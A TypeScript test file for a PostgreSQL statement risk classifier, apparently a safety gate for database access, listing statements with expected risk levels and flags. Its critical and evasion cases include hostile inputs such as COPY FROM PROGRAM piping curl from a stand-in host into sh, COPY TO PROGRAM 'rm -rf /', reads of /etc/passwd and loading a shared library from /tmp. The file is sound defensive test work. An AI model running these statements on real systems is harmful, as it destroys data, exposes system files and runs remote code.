import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { RiskLevel } from '../../../src/policy/risk-level.js';
import { createSqlClassifier, sqlDetails, type SqlClassifier } from '../../../src/classifiers/sql/index.js';

interface Case {
  readonly sql: string;
  readonly risk: RiskLevel;
  /** Kinds that must be present. */
  readonly kinds?: readonly string[];
  /** Flags that must be present. */
  readonly flags?: readonly string[];
  /** Flags that must be absent. */
  readonly not?: readonly string[];
  /** Exact set of objects. */
  readonly objects?: readonly string[];
  readonly name?: string;
}

const ordinary: Case[] = [
  { sql: 'SELECT 1', risk: 'low', kinds: ['select'], objects: [] },
  { sql: 'SELECT * FROM public.users u JOIN orders o ON o.uid = u.id', risk: 'low', kinds: ['select'], objects: ['public.users', 'orders'] },
  { sql: 'SELECT * FROM t WHERE true', risk: 'low', kinds: ['select'], not: ['no_where'] },
  { sql: 'SELECT * FROM (SELECT id FROM inner_t) s WHERE s.id IN (SELECT id FROM other)', risk: 'low', objects: ['inner_t', 'other'] },
  { sql: 'TABLE t', risk: 'low', kinds: ['select'], objects: ['t'] },
  { sql: 'VALUES (1), (2)', risk: 'low', kinds: ['select'] },
  { sql: 'SHOW search_path', risk: 'low', kinds: ['show'] },
  { sql: 'BEGIN', risk: 'low', kinds: ['begin'], flags: ['in_transaction_control'] },
  { sql: 'START TRANSACTION ISOLATION LEVEL SERIALIZABLE', risk: 'low', kinds: ['begin'] },
  { sql: 'COMMIT', risk: 'low', kinds: ['commit'], flags: ['in_transaction_control'] },
  { sql: 'ROLLBACK', risk: 'low', kinds: ['rollback'] },
  { sql: 'SAVEPOINT s1', risk: 'low', kinds: ['savepoint'] },
  { sql: 'ROLLBACK TO SAVEPOINT s1', risk: 'low', kinds: ['rollback'] },
  { sql: 'RELEASE SAVEPOINT s1', risk: 'low', kinds: ['release'] },
  { sql: "PREPARE TRANSACTION 'x'", risk: 'medium', kinds: ['prepare_transaction'] },
  { sql: 'SET statement_timeout = 5000', risk: 'low', kinds: ['set'], not: ['security_setting'] },
  { sql: 'SET LOCAL lock_timeout TO 100', risk: 'low', kinds: ['set'] },
  { sql: 'SET TRANSACTION ISOLATION LEVEL REPEATABLE READ', risk: 'low', kinds: ['set'] },
  { sql: "SET airlock.reason = 'INC-42 fix orders'", risk: 'low', kinds: ['set'] },
  { sql: 'RESET statement_timeout', risk: 'low', kinds: ['reset'] },
  { sql: 'LISTEN jobs', risk: 'low', kinds: ['listen'] },
  { sql: "NOTIFY jobs, 'hi'", risk: 'low', kinds: ['notify'] },
  { sql: 'UNLISTEN *', risk: 'low', kinds: ['unlisten'] },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t', risk: 'low', kinds: ['declare', 'select'], objects: ['t'] },
  { sql: 'FETCH 10 FROM c', risk: 'low', kinds: ['fetch'] },
  { sql: 'CLOSE c', risk: 'low', kinds: ['close'] },
  { sql: 'DISCARD PLANS', risk: 'low', kinds: ['discard'] },
  { sql: 'DEALLOCATE p', risk: 'low', kinds: ['deallocate'] },
  { sql: 'INSERT INTO t (a) VALUES (1)', risk: 'medium', kinds: ['insert'], flags: ['writes'], objects: ['t'] },
  { sql: 'INSERT INTO archive SELECT * FROM t WHERE d < now()', risk: 'medium', kinds: ['insert'], objects: ['archive', 't'] },
  { sql: 'UPDATE t SET x=1 WHERE id=3', risk: 'medium', kinds: ['update'], flags: ['writes'], not: ['no_where'] },
  { sql: 'DELETE FROM t WHERE id IN (SELECT id FROM old)', risk: 'medium', kinds: ['delete'], not: ['no_where'], objects: ['t', 'old'] },
  { sql: 'DELETE FROM t USING u WHERE t.uid = u.id', risk: 'medium', not: ['no_where'], objects: ['t', 'u'] },
  { sql: 'UPDATE t SET x = 1 WHERE id = 1 OR id = 2', risk: 'medium', not: ['no_where'] },
  { sql: 'DELETE FROM t WHERE CURRENT OF c', risk: 'medium', not: ['no_where'] },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v', risk: 'medium', kinds: ['merge'], not: ['no_where'] },
  { sql: 'COPY t FROM STDIN', risk: 'medium', kinds: ['copy'], flags: ['writes'] },
  { sql: 'COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)', risk: 'medium', kinds: ['copy', 'select'], objects: ['t'] },
  { sql: 'CREATE TABLE t (id int primary key)', risk: 'medium', kinds: ['create'], objects: ['t'] },
  { sql: 'CREATE INDEX CONCURRENTLY i ON t (a)', risk: 'medium', kinds: ['create'], objects: ['t'] },
  { sql: 'CREATE VIEW v AS SELECT * FROM t', risk: 'medium', kinds: ['create'] },
  { sql: 'CREATE TABLE x AS SELECT * FROM t', risk: 'medium', kinds: ['create', 'select'], flags: ['writes'] },
  { sql: 'SELECT * INTO x FROM t', risk: 'medium', kinds: ['select', 'create'], flags: ['writes'] },
  { sql: 'VACUUM t', risk: 'medium', kinds: ['vacuum'] },
  { sql: 'VACUUM (FULL) t', risk: 'high', kinds: ['vacuum'] },
  { sql: 'ANALYZE t', risk: 'medium', kinds: ['analyze'] },
  { sql: 'CALL refresh_stats(1)', risk: 'medium', kinds: ['call'] },
  { sql: "COMMENT ON TABLE t IS 'x'", risk: 'medium', kinds: ['comment'] },
  { sql: 'SELECT * FROM t WHERE id = 1 FOR UPDATE', risk: 'medium', kinds: ['select'], flags: ['select_for_update'] },
  { sql: 'CHECKPOINT', risk: 'medium', kinds: ['checkpoint'] },
  { sql: 'PREPARE q AS SELECT * FROM t WHERE id = $1', risk: 'low', kinds: ['prepare', 'select'] },
  { sql: 'PREPARE ins (int) AS INSERT INTO t VALUES ($1)', risk: 'medium', kinds: ['prepare', 'insert'] },
  { sql: 'EXECUTE q(1)', risk: 'medium', kinds: ['execute'], flags: ['execute_prepared'] },
  { sql: 'CREATE DATABASE scratch', risk: 'medium', kinds: ['create'] },
  { sql: 'CREATE SCHEMA s', risk: 'medium', kinds: ['create'] },
];

// Functions: built-ins (from PostgreSQL's own catalogue) stay as they are; any
// other function is user code the parser cannot see into, so at least medium.
const functions: Case[] = [
  { sql: "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'", risk: 'low', not: ['dangerous_function:set_config'], name: "pg_dump's restrict_nonsystem_relation_kind" },
  { sql: "SELECT set_config(name, 'postgres', false) FROM pg_settings WHERE name = 'role'", risk: 'critical', flags: ['dangerous_function:set_config'], name: 'the same shape naming role' },
  { sql: "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem' OR name = 'role'", risk: 'critical', flags: ['dangerous_function:set_config'], name: 'a WHERE naming more than one setting' },
  { sql: "SELECT set_config(name, 'x', false) FROM pg_settings", risk: 'critical', flags: ['dangerous_function:set_config'], name: 'no WHERE: every setting' },
  { sql: "SELECT (SELECT set_config(name, 'x', false) FROM other) FROM pg_settings WHERE name = 'work_mem'", risk: 'critical', name: 'a nested set_config is not pinned' },
  { sql: "SELECT set_config(name, 'x', false) FROM evil.pg_settings WHERE name = 'work_mem'", risk: 'critical', name: 'another schema\'s pg_settings' },
  { sql: 'LOCK TABLE public.t IN ACCESS SHARE MODE', risk: 'low', kinds: ['lock'], name: "pg_dump's read lock" },
  { sql: 'LOCK TABLE t IN ROW SHARE MODE', risk: 'medium', kinds: ['lock'] },
  { sql: 'LOCK TABLE t', risk: 'high', kinds: ['lock'], name: 'LOCK without a mode is ACCESS EXCLUSIVE' },
  { sql: 'LOCK TABLE t IN SHARE ROW EXCLUSIVE MODE', risk: 'high', kinds: ['lock'] },
  { sql: "SELECT pg_catalog.set_config('search_path', '', false);", risk: 'low', not: ['security_setting', 'user_function'], name: "pg_dump's search_path hardening" },
  { sql: "SET search_path = ''", risk: 'low', not: ['security_setting'] },
  { sql: 'SET row_security = off', risk: 'low', not: ['security_setting'], name: 'row_security off makes RLS queries fail, never bypass' },
  { sql: 'SELECT count(*), lower(name), now(), date_trunc(\'day\', created_at) FROM t', risk: 'low', not: ['user_function'] },
  { sql: 'SELECT pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attnum > 0', risk: 'low', not: ['user_function'] },
  { sql: "SELECT c.relname FROM pg_catalog.pg_class c WHERE pg_catalog.pg_table_is_visible(c.oid) AND c.relname OPERATOR(pg_catalog.~) '^(t)$' COLLATE pg_catalog.default", risk: 'low', not: ['user_function'] },
  { sql: 'SELECT extract(year FROM now()), substring(name FROM 1 FOR 3), trim(name) FROM t', risk: 'low', not: ['user_function'] },
  { sql: 'SELECT purge_all()', risk: 'medium', flags: ['user_function', 'user_function:purge_all'] },
  { sql: 'SELECT * FROM purge_all()', risk: 'medium', flags: ['user_function'] },
  { sql: 'SELECT id FROM t WHERE ops.archive(id)', risk: 'medium', flags: ['user_function:ops.archive'] },
  { sql: "SELECT myschema.lower('X')", risk: 'medium', flags: ['user_function:myschema.lower'], name: 'a built-in name in another schema is user code' },
  { sql: 'SELECT "Lower"(name) FROM t', risk: 'medium', flags: ['user_function'], name: 'quoted mixed case is not the built-in' },
  { sql: "SELECT nextval('orders_id_seq')", risk: 'medium', flags: ['function_writes:nextval', 'writes'] },
  { sql: "SELECT setval('orders_id_seq', 1)", risk: 'high', flags: ['function_writes:setval', 'writes'] },
  { sql: 'SELECT lo_unlink(16403)', risk: 'high', flags: ['function_writes:lo_unlink'] },
  { sql: 'SELECT pg_catalog.setval(\'s\', 1)', risk: 'high', flags: ['function_writes:setval'] },
];

const high: Case[] = [
  { sql: 'DELETE FROM t', risk: 'high', kinds: ['delete'], flags: ['no_where', 'writes'], objects: ['t'] },
  { sql: 'UPDATE t SET x = 1', risk: 'high', kinds: ['update'], flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE true', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE 1=1', risk: 'high', flags: ['no_where'] },
  { sql: "DELETE FROM t WHERE 'a'='a'", risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE NOT false', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE 1=1 OR x=2', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE x=2 OR 1=1', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE true AND true', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE id = id', risk: 'high', flags: ['no_where'] },
  { sql: 'UPDATE t SET x = 1 WHERE t.a >= t.a', risk: 'high', flags: ['no_where'] },
  { sql: "DELETE FROM t WHERE 't'::boolean", risk: 'high', flags: ['no_where'] },
  { sql: "DELETE FROM t WHERE '1' = 1", risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE 2 > 1', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE 1 IN (1, 2)', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE 5 BETWEEN 1 AND 10', risk: 'high', flags: ['no_where'] },
  { sql: "DELETE FROM t WHERE 'abc' LIKE 'a%'", risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE NULL IS NULL', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE true IS TRUE', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE EXISTS (SELECT 1)', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE (SELECT true)', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE x IS NULL OR x IS NOT NULL', risk: 'high', flags: ['no_where'] },
  { sql: "DELETE FROM t WHERE length('a') = 1", risk: 'high', flags: ['no_where'], name: 'row-independent condition' },
  { sql: "DELETE FROM t WHERE id = 3 OR now() > '2000-01-01'", risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE ((((1=1))))', risk: 'high', flags: ['no_where'] },
  { sql: 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE', risk: 'high', kinds: ['merge'], flags: ['no_where'] },
  { sql: 'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE', risk: 'high', flags: ['no_where'] },
  { sql: 'TRUNCATE t', risk: 'high', kinds: ['truncate'], flags: ['writes'], objects: ['t'] },
  { sql: 'TRUNCATE TABLE a, b RESTART IDENTITY', risk: 'high', objects: ['a', 'b'] },
  { sql: 'ALTER TABLE t ADD COLUMN c int', risk: 'high', kinds: ['alter'], not: ['role_change'] },
  { sql: 'ALTER TABLE t RENAME TO u', risk: 'high', kinds: ['alter'] },
  { sql: 'DROP INDEX i', risk: 'high', kinds: ['drop'] },
  { sql: 'DROP VIEW v', risk: 'high', kinds: ['drop'], objects: ['v'] },
  { sql: 'DROP FUNCTION f(int)', risk: 'high', kinds: ['drop'] },
  { sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', risk: 'high', kinds: ['lock'], objects: ['t'] },
  { sql: 'REINDEX TABLE t', risk: 'high', kinds: ['reindex'] },
  { sql: 'CLUSTER t USING i', risk: 'high', kinds: ['cluster'] },
  { sql: 'REFRESH MATERIALIZED VIEW mv', risk: 'high', kinds: ['refresh'], objects: ['mv'] },
  { sql: 'SET ROLE postgres', risk: 'high', kinds: ['set'], flags: ['security_setting'] },
  { sql: 'SET SESSION AUTHORIZATION bob', risk: 'high', flags: ['security_setting'] },
  { sql: 'SET session_replication_role = replica', risk: 'high', flags: ['security_setting'] },
  { sql: 'RESET ROLE', risk: 'high', kinds: ['reset'], flags: ['security_setting'] },
  { sql: 'SET search_path TO evil, public', risk: 'medium', flags: ['security_setting'] },
  { sql: 'SET search_path TO evil, pg_catalog', risk: 'high', flags: ['security_setting'], name: 'built-ins shadowed by another schema' },
  { sql: "SELECT pg_catalog.set_config('search_path', 'evil,pg_catalog', false)", risk: 'critical', flags: ['dangerous_function:set_config'] },
  { sql: 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', risk: 'high', kinds: ['select', 'delete'], flags: ['cte_write', 'no_where'], objects: ['t'] },
  { sql: 'WITH u AS (UPDATE t SET x = 1 WHERE id = 2 RETURNING *) SELECT * FROM u', risk: 'medium', flags: ['cte_write'], not: ['no_where'] },
  { sql: 'EXPLAIN ANALYZE DELETE FROM t', risk: 'high', kinds: ['explain', 'delete'], flags: ['explain_analyze_write', 'no_where'] },
  { sql: 'EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET x = 1', risk: 'high', flags: ['explain_analyze_write'] },
  { sql: 'EXPLAIN (ANALYZE true) DELETE FROM t WHERE id = 1', risk: 'medium', flags: ['explain_analyze_write'] },
  { sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', risk: 'high', kinds: ['create_function'], not: ['untrusted_language'] },
  { sql: 'CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()', risk: 'high', kinds: ['create'] },
  { sql: 'CREATE OR REPLACE VIEW v AS SELECT 1', risk: 'high', flags: ['replace'] },
  { sql: 'PREPARE p AS DELETE FROM t', risk: 'high', kinds: ['prepare', 'delete'], flags: ['no_where'] },
];

const critical: Case[] = [
  { sql: 'DROP TABLE t', risk: 'critical', kinds: ['drop'], objects: ['t'] },
  { sql: 'DROP TABLE IF EXISTS app.users, logs', risk: 'critical', objects: ['app.users', 'logs'] },
  { sql: 'DROP SCHEMA app CASCADE', risk: 'critical', kinds: ['drop'], flags: ['cascade'] },
  { sql: 'DROP DATABASE prod', risk: 'critical', kinds: ['drop'], objects: ['prod'] },
  { sql: 'DROP VIEW v CASCADE', risk: 'critical', flags: ['cascade'] },
  { sql: 'DROP ROLE alice', risk: 'critical', kinds: ['drop_role'], flags: ['role_change'] },
  { sql: 'DROP OWNED BY alice', risk: 'critical', flags: ['role_change'] },
  { sql: 'ALTER TABLE t DROP COLUMN c', risk: 'critical', kinds: ['alter', 'alter_drop'] },
  { sql: 'ALTER TABLE t DROP CONSTRAINT t_pkey', risk: 'critical', kinds: ['alter_drop'] },
  { sql: 'ALTER TABLE t ADD COLUMN d int, DROP COLUMN c', risk: 'critical', kinds: ['alter_drop'] },
  { sql: 'ALTER TABLE t OWNER TO mallory', risk: 'critical', flags: ['role_change'] },
  { sql: 'ALTER DOMAIN d DROP CONSTRAINT c', risk: 'critical', kinds: ['alter_drop'] },
  { sql: 'GRANT ALL ON t TO bob', risk: 'critical', kinds: ['grant'], flags: ['privilege_change'], objects: ['t'] },
  { sql: 'REVOKE SELECT ON t FROM bob', risk: 'critical', kinds: ['revoke'], flags: ['privilege_change'] },
  { sql: 'GRANT admin TO bob', risk: 'critical', kinds: ['grant'], flags: ['privilege_change', 'role_change'] },
  { sql: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob', risk: 'critical', flags: ['privilege_change'] },
  { sql: 'CREATE ROLE x SUPERUSER', risk: 'critical', kinds: ['create_role'], flags: ['role_change'] },
  { sql: "CREATE USER x WITH PASSWORD 'p'", risk: 'critical', kinds: ['create_role'] },
  { sql: "ALTER USER x WITH PASSWORD 'p'", risk: 'critical', kinds: ['alter_role'], flags: ['role_change'] },
  { sql: 'ALTER ROLE x SET search_path = evil', risk: 'critical', kinds: ['alter_role'] },
  { sql: "ALTER SYSTEM SET wal_level = 'minimal'", risk: 'critical', kinds: ['alter_system'] },
  { sql: 'CREATE EXTENSION dblink', risk: 'critical', kinds: ['create'] },
  { sql: "LOAD '/tmp/evil.so'", risk: 'critical', kinds: ['load'] },
  { sql: "CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/x.so', 'f'", risk: 'critical', flags: ['untrusted_language'] },
  { sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ return 1 $$', risk: 'critical', flags: ['untrusted_language'] },
  { sql: "COPY t TO PROGRAM 'rm -rf /'", risk: 'critical', kinds: ['copy'], flags: ['copy_program'] },
  { sql: "COPY t FROM PROGRAM 'curl evil.example | sh'", risk: 'critical', flags: ['copy_program'] },
  { sql: "COPY t FROM '/etc/passwd'", risk: 'critical', flags: ['copy_file', 'writes'] },
  { sql: "COPY (SELECT 1) TO '/tmp/out'", risk: 'critical', flags: ['copy_file'] },
  { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", risk: 'critical', kinds: ['do'], flags: ['dynamic_sql'] },
  { sql: "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT 1' LOOP END LOOP; END $$", risk: 'critical', flags: ['dynamic_sql'] },
  { sql: "DO LANGUAGE plperlu $$ system('id') $$", risk: 'critical', flags: ['dynamic_sql'] },
  { sql: 'DO $$ BEGIN DROP TABLE t; END $$', risk: 'critical', kinds: ['do', 'drop'], objects: ['t'] },
  { sql: 'DO $$ BEGIN this is not plpgsql; END $$', risk: 'critical', flags: ['dynamic_sql'] },
  { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'], objects: ['pg_stat_activity'] },
  { sql: 'SELECT pg_catalog.pg_cancel_backend(1)', risk: 'critical', flags: ['dangerous_function:pg_cancel_backend'] },
  { sql: "SELECT pg_read_file('/etc/passwd')", risk: 'critical', flags: ['dangerous_function:pg_read_file'] },
  { sql: "SELECT * FROM pg_ls_dir('/')", risk: 'critical', flags: ['dangerous_function:pg_ls_dir'] },
  { sql: "SELECT lo_export(1, '/tmp/x')", risk: 'critical', flags: ['dangerous_function:lo_export'] },
  { sql: "SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS x(a int)", risk: 'critical', flags: ['dangerous_function:dblink', 'dynamic_sql'] },
  { sql: 'SELECT pg_reload_conf()', risk: 'critical', flags: ['dangerous_function:pg_reload_conf'] },
  { sql: "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')", risk: 'critical', flags: ['dynamic_sql'] },
  { sql: "select set_config('role','x',false)", risk: 'critical', flags: ['dangerous_function:set_config', 'security_setting'] },
  { sql: "SELECT set_config('ROLE', 'x', false)", risk: 'critical', flags: ['dangerous_function:set_config'] },
  { sql: 'SELECT set_config(name, value, false) FROM settings_to_apply', risk: 'critical', flags: ['dangerous_function:set_config'] },
  { sql: 'SET session_preload_libraries = evil', risk: 'critical', flags: ['security_setting'] },
];

const evasions: Case[] = [
  { sql: '/* x */ DROP TABLE t', risk: 'critical', kinds: ['drop'] },
  { sql: '-- c\nDROP TABLE t', risk: 'critical', kinds: ['drop'] },
  { sql: '/* outer /* nested */ still comment */ DROP TABLE t', risk: 'critical', kinds: ['drop'] },
  { sql: 'dRoP tAbLe T', risk: 'critical', kinds: ['drop'], objects: ['t'] },
  { sql: 'DROP TABLE "T"', risk: 'critical', objects: ['T'] },
  { sql: 'DROP TABLE U&"\\0074"', risk: 'critical', objects: ['t'], name: 'unicode escape identifier' },
  { sql: 'SELECT 1; DROP TABLE t', risk: 'critical', kinds: ['select', 'drop'], flags: ['multi_statement'] },
  { sql: 'SELECT 1;DROP TABLE t;', risk: 'critical', flags: ['multi_statement'] },
  { sql: 'BEGIN; DELETE FROM t; COMMIT', risk: 'high', kinds: ['begin', 'delete', 'commit'], flags: ['no_where', 'in_transaction_control', 'multi_statement'] },
  { sql: 'WITH a AS (SELECT 1), b AS (DELETE FROM t WHERE 1=1 RETURNING 1) SELECT * FROM a', risk: 'high', flags: ['cte_write', 'no_where'] },
  { sql: 'WITH x AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM x', risk: 'medium', flags: ['cte_write', 'writes'] },
  { sql: 'SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'] },
  { sql: 'WITH k AS (SELECT pg_terminate_backend(pid) FROM pg_stat_activity) SELECT 1', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'] },
  { sql: 'SELECT * FROM t ORDER BY pg_cancel_backend(1)', risk: 'critical', flags: ['dangerous_function:pg_cancel_backend'] },
  { sql: 'SELECT CASE WHEN true THEN pg_reload_conf() END', risk: 'critical', flags: ['dangerous_function:pg_reload_conf'] },
  { sql: 'SELECT "pg_terminate_backend"(1)', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'] },
  { sql: 'DO $$ BEGIN DELETE FROM t; END $$', risk: 'high', kinds: ['do', 'delete'], flags: ['no_where'], not: ['dynamic_sql'] },
  { sql: 'DO $body$ BEGIN UPDATE t SET x = 1 WHERE id = 3; END $body$', risk: 'medium', kinds: ['do', 'update'], not: ['dynamic_sql'] },
  { sql: 'DO $$ BEGIN PERFORM pg_terminate_backend(42); END $$', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'] },
  { sql: "DO $$ DECLARE n int; BEGIN n := (SELECT pg_cancel_backend(1)::int); END $$", risk: 'critical', flags: ['dangerous_function:pg_cancel_backend'] },
  { sql: "DO 'BEGIN DELETE FROM t; END'", risk: 'high', flags: ['no_where'], name: 'DO with a plain string body' },
  { sql: 'DO $$ BEGIN NULL; END $$', risk: 'medium', kinds: ['do'], not: ['dynamic_sql'] },
  { sql: 'DO $$ BEGIN DO $x$ BEGIN EXECUTE $y$DROP TABLE t$y$; END $x$; END $$', risk: 'critical', flags: ['dynamic_sql'], name: 'nested DO with EXECUTE' },
  { sql: 'PREPARE p AS DELETE FROM t; EXECUTE p', risk: 'high', kinds: ['prepare', 'delete', 'execute'], flags: ['no_where', 'execute_prepared', 'multi_statement'] },
  { sql: 'EXPLAIN ANALYZE SELECT pg_terminate_backend(1)', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'] },
  { sql: 'COPY (DELETE FROM t RETURNING *) TO STDOUT', risk: 'high', kinds: ['copy', 'delete'], flags: ['no_where'] },
  { sql: 'CREATE TABLE x AS WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', risk: 'high', flags: ['cte_write', 'no_where'] },
  { sql: 'CREATE SCHEMA s CREATE TABLE a (i int) GRANT SELECT ON a TO public', risk: 'critical', flags: ['privilege_change'] },
  { sql: 'garbage', risk: 'critical', kinds: ['unparseable'], flags: ['unparseable'] },
  { sql: 'SELECT FROM WHERE DROP', risk: 'critical', flags: ['unparseable'] },
  { sql: "SELECT 'unterminated", risk: 'critical', flags: ['unparseable'] },
  { sql: 'SELECT 1\u0000; DROP TABLE t', risk: 'critical', flags: ['unparseable'], name: 'NUL byte hides a statement from the parser' },
  { sql: '\u0000', risk: 'critical', flags: ['unparseable'] },
  { sql: 'SELECT 1; garbage', risk: 'critical', flags: ['unparseable'] },
  { sql: 'INSERT INTO t VALUES (pg_terminate_backend(1))', risk: 'critical', flags: ['dangerous_function:pg_terminate_backend'] },
  { sql: 'UPDATE t SET x = (SELECT pg_read_file($$/etc/passwd$$)) WHERE id = 1', risk: 'critical', flags: ['dangerous_function:pg_read_file'] },
  { sql: "DO $$ BEGIN RAISE NOTICE '%', (SELECT pg_read_file('/etc/passwd')); END $$", risk: 'critical', flags: ['dangerous_function:pg_read_file'] },
  { sql: 'EXPLAIN ANALYZE EXECUTE p', risk: 'medium', kinds: ['explain', 'execute'], flags: ['execute_prepared'] },
  { sql: 'SET "ROLE" TO postgres', risk: 'high', flags: ['security_setting'], name: 'setting names are case-insensitive' },
  { sql: 'SET LOCAL role = postgres', risk: 'high', flags: ['security_setting'] },
  { sql: 'SET TRANSACTION READ WRITE', risk: 'high', flags: ['security_setting'] },
  { sql: 'SET TRANSACTION READ ONLY', risk: 'low', not: ['security_setting'] },
  { sql: 'DELETE FROM t WHERE id = id AND 1 = 1', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE random() = random()', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE coalesce(id, 0) = coalesce(id, 0)', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE x IS NOT DISTINCT FROM x', risk: 'high', flags: ['no_where'] },
  { sql: "UPDATE t SET a = 1 WHERE 'yes'::bool", risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE 1 IS DISTINCT FROM 2', risk: 'high', flags: ['no_where'] },
  { sql: 'DELETE FROM t WHERE $1', risk: 'high', flags: ['no_where'], name: 'a bare parameter is all-or-nothing' },
  { sql: 'ALTER TABLE t DISABLE TRIGGER ALL', risk: 'high', kinds: ['alter'] },
  { sql: 'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM x', risk: 'high', kinds: ['create'], not: ['no_where'] },
  { sql: 'DeLeTe FrOm "T" wHeRe TRUE', risk: 'high', flags: ['no_where'], objects: ['T'] },
  { sql: 'WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT * FROM r) DELETE FROM t', risk: 'high', flags: ['no_where'], objects: ['t'] },
];

const benign: Case[] = [
  { sql: "SELECT 'DROP TABLE t'", risk: 'low', kinds: ['select'] },
  { sql: "SELECT $$DROP TABLE t; DELETE FROM u$$ AS text", risk: 'low', kinds: ['select'] },
  { sql: "SELECT $tag$ '; DROP TABLE t; -- $tag$", risk: 'low', kinds: ['select'] },
  { sql: 'SELECT 1 /* DROP TABLE t */', risk: 'low', kinds: ['select'] },
  { sql: 'SELECT 1 -- ; DROP TABLE t', risk: 'low', kinds: ['select'], not: ['multi_statement'] },
  { sql: 'SELECT * FROM drop_log', risk: 'low', objects: ['drop_log'] },
  { sql: 'SELECT * FROM "delete"', risk: 'low', objects: ['delete'] },
  { sql: 'INSERT INTO "drop" VALUES (1)', risk: 'medium', kinds: ['insert'], objects: ['drop'] },
  { sql: "INSERT INTO audit (msg) VALUES ('DELETE FROM t')", risk: 'medium', kinds: ['insert'], not: ['no_where'] },
  { sql: 'EXPLAIN DELETE FROM t', risk: 'low', kinds: ['explain'], not: ['no_where', 'writes'], objects: ['t'] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM t', risk: 'low', kinds: ['explain'] },
  { sql: 'EXPLAIN ANALYZE SELECT * FROM t', risk: 'low', kinds: ['explain', 'select'], not: ['explain_analyze_write'] },
  { sql: "DELETE FROM t WHERE 'a'='b'", risk: 'medium', not: ['no_where'] },
  { sql: 'DELETE FROM t WHERE false', risk: 'medium', not: ['no_where'] },
  { sql: 'DELETE FROM t WHERE id = 1 AND 1=1', risk: 'medium', not: ['no_where'] },
  { sql: 'DELETE FROM t WHERE id <> id', risk: 'medium', not: ['no_where'] },
  { sql: 'WITH t AS (SELECT 1 AS id) SELECT * FROM t', risk: 'low', objects: [], name: 'a CTE name is not a table' },
  { sql: 'WITH t AS (SELECT * FROM t) SELECT * FROM t', risk: 'low', objects: ['t'], name: 'a non-recursive CTE body sees the table' },
  { sql: "SELECT current_setting('role')", risk: 'low', not: ['security_setting'] },
  { sql: "SELECT set_config('airlock.reason', 'INC-7', false)", risk: 'low', not: ['security_setting'] },
  { sql: "SELECT pg_notify('c', 'x'), pg_sleep(0)", risk: 'low' },
  { sql: 'SELECT * FROM t WHERE name = \'pg_terminate_backend(1)\'', risk: 'low', not: ['dangerous_function:pg_terminate_backend'] },
  { sql: '   ', risk: 'low', kinds: [], flags: ['empty'] },
  { sql: '', risk: 'low', kinds: [], flags: ['empty'] },
  { sql: '/* only a comment */', risk: 'low', kinds: [], flags: ['empty'] },
  { sql: 'SELECT \'é\'; SELECT \'ü\'', risk: 'low', flags: ['multi_statement'] },
];

let classifier: SqlClassifier;
before(async () => {
  classifier = await createSqlClassifier({ cacheSize: 10_000 });
});

function check(c: Case): void {
  const r = classifier.classify(c.sql);
  const show = JSON.stringify(r.facts);
  assert.equal(r.risk, c.risk, `risk of ${JSON.stringify(c.sql)}: ${show}`);
  for (const k of c.kinds ?? []) assert.ok(r.facts.kinds.includes(k), `kind ${k} missing: ${show}`);
  if (c.kinds?.length === 0) assert.deepEqual(r.facts.kinds, []);
